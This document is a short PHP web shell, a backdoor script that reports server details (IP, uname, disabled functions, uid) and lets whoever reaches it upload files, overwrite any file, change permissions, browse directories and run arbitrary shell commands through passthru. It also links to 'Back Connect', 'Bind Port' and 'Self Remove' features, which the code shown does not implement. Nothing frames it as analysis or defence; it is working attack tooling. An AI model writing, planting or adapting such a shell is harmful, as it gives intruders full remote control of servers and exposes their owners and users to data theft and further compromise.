<?php
set_time_limit(0);
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo '<h3>Server IP : ' . $_SERVER['SERVER_ADDR'] . ' | ' . php_uname() . '</h3>';
echo 'safe_mode: ' . (ini_get('safe_mode') ? 'on' : 'off') . ' disable_functions: ' . ini_get('disable_functions');
echo ' free: ' . disk_free_space($dir) . ' uid: ' . getmyuid();
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']); }
if (isset($_POST['save'])) { file_put_contents($_POST['file'], $_POST['body']); }
if (isset($_POST['mode'])) { chmod($_POST['file'], octdec($_POST['mode'])); }
if (isset($_POST['cmd'])) { $c = $_POST['cmd']; echo '<pre>'; passthru($c); echo '</pre>'; }
foreach (scandir($dir) as $f) { echo '<a href="?d=' . urlencode($dir . '/' . $f) . '">' . htmlspecialchars($f) . '</a><br>'; }
echo '<a href="?a=bc">Back Connect</a> <a href="?a=bind">Bind Port</a> <a href="?a=kill">Self Remove</a>';
